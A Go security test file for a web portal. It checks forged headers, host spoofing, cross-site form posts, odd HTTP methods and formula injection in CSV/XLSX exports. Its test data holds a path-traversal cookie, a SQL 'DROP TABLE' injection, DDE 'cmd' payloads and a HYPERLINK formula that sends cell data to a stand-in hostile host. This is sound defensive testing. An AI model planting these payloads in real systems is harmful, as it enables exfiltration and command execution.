package web

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// foreign is an address that only a forged header names; the log must not believe it.
const foreign = "203.0.113.77"

// spoiltHeaders are headers that any program may send; the answer stays an ordinary one.
var spoiltHeaders = []struct{ name, value string }{
	{"Cookie", "portal_session=" + strings.Repeat("x", 100_000)}, {"Cookie", "portal_session=../../etc/passwd; portal_session='; DROP TABLE sessions; --"},
	{"Cookie", "look_mode=<x-hostile>; look_size=%7f; ;;;=; =x; portal_device=%00"}, {"Cookie", strings.Repeat("a=b; ", 4_000)},
	{"X-Forwarded-For", foreign}, {"X-Forwarded-For", strings.Repeat("1.1.1.1, ", 3_000)}, {"Forwarded", "for=" + foreign}, {"X-Real-IP", foreign}, {"X-Forwarded-Host", "x-hostile.example"},
	{"X-Forwarded-Proto", "javascript"}, {"X-Original-URL", "/desk/settings"}, {"X-Rewrite-URL", "/desk/settings"}, {"X-HTTP-Method-Override", "DELETE"},
	{"User-Agent", strings.Repeat("长", 20_000)}, {"User-Agent", breakout}, {"Referer", "javascript:alert(1)//x-hostile"}, {"Accept-Language", strings.Repeat("zh;q=0.1,", 10_000)},
	{"Accept-Encoding", strings.Repeat("gzip, ", 10_000)}, {"Range", "bytes=0-18446744073709551616,-1,9-1"}, {"If-None-Match", strings.Repeat(`"a",`, 20_000)},
	{"If-Modified-Since", "infinity"}, {"Content-Type", "multipart/form-data; boundary=" + strings.Repeat("b", 10_000)}, {"X-Request-Id", "x-hostile\t[31m"},
	{"Authorization", "Basic " + strings.Repeat("QQ", 10_000)}, {"Upgrade", "websocket"}, {"Expect", "100-continue"}, {"TE", "trailers"}, {"Accept", "application/json"},
}

// spoiltHosts are names that the portal does not have.
var spoiltHosts = []string{"x-hostile.example", "127.0.0.1:1", "localhost.x-hostile.example", "[::1]:99999", "x-hostile.example:443"}

// withHeader asks with one more header.
func (s *siege) withHeader(t *testing.T, who identity, method, path, name, value string) answer {
	t.Helper()
	r, err := http.NewRequest(method, s.base+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if name == "Host" {
		r.Host = value
	} else {
		r.Header.Set(name, value)
	}
	return s.ask(t, who, r)
}

// hostileHeaders: whatever stands in front of the body, the answer is ordinary, leads nowhere else and
// believes nobody about addresses; no other site can send a form, and no other method does anything.
func (s *siege) hostileHeaders(t *testing.T, h *harvest) {
	public, reviewer := s.who[""], s.who["reviewer"]
	for _, path := range []string{"/items", "/sign-in", "/items.csv", "/desk/todos"} {
		for _, head := range spoiltHeaders {
			who := reviewer
			if head.name == "Cookie" { // instead of the ones in the jar
				who = identity{client: &http.Client{CheckRedirect: public.client.CheckRedirect, Timeout: atMost}}
			}
			if a := s.withHeader(t, who, http.MethodGet, path, head.name, head.value); !slices.Contains([]int{200, 206, 303, 404, 416, 431}, a.status) {
				t.Errorf("%s with %s %.40q: %d", path, head.name, head.value, a.status)
			}
		}
		for _, host := range spoiltHosts {
			a := s.withHeader(t, public, http.MethodGet, path, "Host", host)
			if a.status >= 500 || strings.Contains(a.header.Get("Location"), "hostile") {
				t.Errorf("%s as host %s: %d to %s", path, host, a.status, a.header.Get("Location"))
			}
		}
	}
	if strings.Contains(s.log.String(), foreign) {
		t.Error("a forged address was believed")
	}
	s.crossSite(t, h)
	s.otherMethods(t, h)
}

// crossSite: a form that another site makes a browser send is refused before anything is read.
func (s *siege) crossSite(t *testing.T, h *harvest) {
	s.written(t)
	targets := []seenForm{{who: s.who["reviewer"], action: "/look"}, {who: s.who["reviewer"], action: "/sign-out"}, {who: s.who["reviewer"], action: "/me/alive"}, {who: s.who[""], action: "/sign-in/second-step"}}
	for _, pool := range h.forms {
		targets = append(targets, pool[0])
	}
	for _, f := range targets {
		for _, head := range []struct{ name, value string }{{"Origin", "https://x-hostile.example"}, {"Origin", "null"}, {"Sec-Fetch-Site", "cross-site"}, {"Sec-Fetch-Site", "same-site"}} {
			r, err := http.NewRequest(http.MethodPost, s.base+f.action, strings.NewReader(f.filled(0).Encode()))
			if err != nil {
				t.Fatal(err)
			}
			r.Header.Set("Content-Type", urlencoded)
			r.Header.Set(head.name, head.value)
			if a := s.ask(t, f.who, r); a.status != http.StatusForbidden {
				t.Errorf("POST %s with %s %s: %d", f.action, head.name, head.value, a.status)
			} else {
				s.sentence(t, f.action, a)
			}
		}
	}
	if w := s.written(t); len(w) > 0 {
		t.Errorf("forms of another site wrote %v", w)
	}
}

// otherMethods: HEAD answers like GET without a body, everything else that is no route is not found.
func (s *siege) otherMethods(t *testing.T, h *harvest) {
	for _, route := range s.server.Routes {
		who, path := h.somebody(route.Pattern)
		if route.Method != http.MethodGet || path == "" {
			continue
		}
		if a := s.withHeader(t, who, http.MethodHead, path, "X-Plain", "1"); a.body != "" || a.status >= 500 {
			t.Errorf("HEAD %s: %d with %d bytes", path, a.status, len(a.body))
		}
		for _, method := range []string{http.MethodOptions, http.MethodTrace, http.MethodPut, http.MethodPatch, http.MethodDelete, "PROPFIND"} {
			a := s.withHeader(t, who, method, path, "X-Echo", "x-hostile-echo")
			if !slices.Contains([]int{403, 404, 405}, a.status) || strings.Contains(a.body, "x-hostile-echo") {
				t.Errorf("%s %s: %d", method, path, a.status)
			}
		}
	}
}

// formulas are titles that a spreadsheet would run.
var formulas = []string{`=HYPERLINK("http://x-hostile.example/?"&A1)`, `+cmd|' /C calc'!A0`, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "＝1＋1"}

const armTitles = `
WITH few AS (SELECT id, row_number() OVER (ORDER BY id) - 1 AS n FROM %[1]s)
UPDATE %[1]s x SET title = ($1::text[])[1 + n %% cardinality($1::text[])] FROM few WHERE few.id = x.id`

// hostileExports: titles that a spreadsheet would run lie in every export as text, and every export is
// saved under its own type, never shown.
func (s *siege) hostileExports(t *testing.T) {
	for _, table := range []string{"application", "admission_item_version"} {
		if _, err := s.admin.Exec(t.Context(), fmt.Sprintf(armTitles, table), formulas); err != nil {
			t.Fatal(err)
		}
	}
	for _, export := range []string{"/items.csv", "/desk/applications.csv?tab=all", "/desk/applications.xlsx?tab=all", "/desk/lists/self_governance/export?format=csv", "/desk/lists/self_governance/export?format=xlsx"} {
		a := s.get(t, s.who["reviewer"], export)
		if a.status != http.StatusOK || !strings.HasPrefix(a.header.Get("Content-Disposition"), "attachment") {
			t.Errorf("%s: %d %s", export, a.status, a.header.Get("Content-Disposition"))
		}
		kind := a.header.Get("Content-Type")
		switch {
		case strings.HasPrefix(kind, "text/csv"):
			s.defused(t, export, a.body)
		case strings.Contains(kind, "spreadsheetml"):
			s.textOnly(t, export, a.body)
		default:
			t.Errorf("%s: type %q", export, kind)
		}
	}
}

func (s *siege) defused(t *testing.T, export, body string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", export, err)
	}
	found := 0
	for n, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") || strings.HasPrefix(cell, "＝") {
				t.Errorf("%s row %d: a spreadsheet would run %q", export, n, cell)
			}
			if slices.Contains(formulas, strings.TrimPrefix(cell, "'")) {
				found++
			}
		}
	}
	if found == 0 {
		t.Errorf("%s: none of the titles is there", export)
	}
}

func (s *siege) textOnly(t *testing.T, export, body string) {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader([]byte(body)))
	if err != nil {
		t.Fatalf("%s: %v", export, err)
	}
	defer book.Close()
	name := book.GetSheetName(0)
	rows, err := book.GetRows(name)
	if err != nil {
		t.Fatalf("%s: %v", export, err)
	}
	found := 0
	for y, row := range rows {
		for x, value := range row {
			if !slices.Contains(formulas, strings.TrimPrefix(value, "'")) {
				continue
			}
			found++
			at, _ := excelize.CoordinatesToCellName(x+1, y+1)
			formula, err := book.GetCellFormula(name, at)
			kind, err2 := book.GetCellType(name, at)
			if formula != "" || err != nil || err2 != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
				t.Errorf("%s %s: formula %q, type %v", export, at, formula, kind)
			}
		}
	}
	if found == 0 {
		t.Errorf("%s: none of the titles is there", export)
	}
}
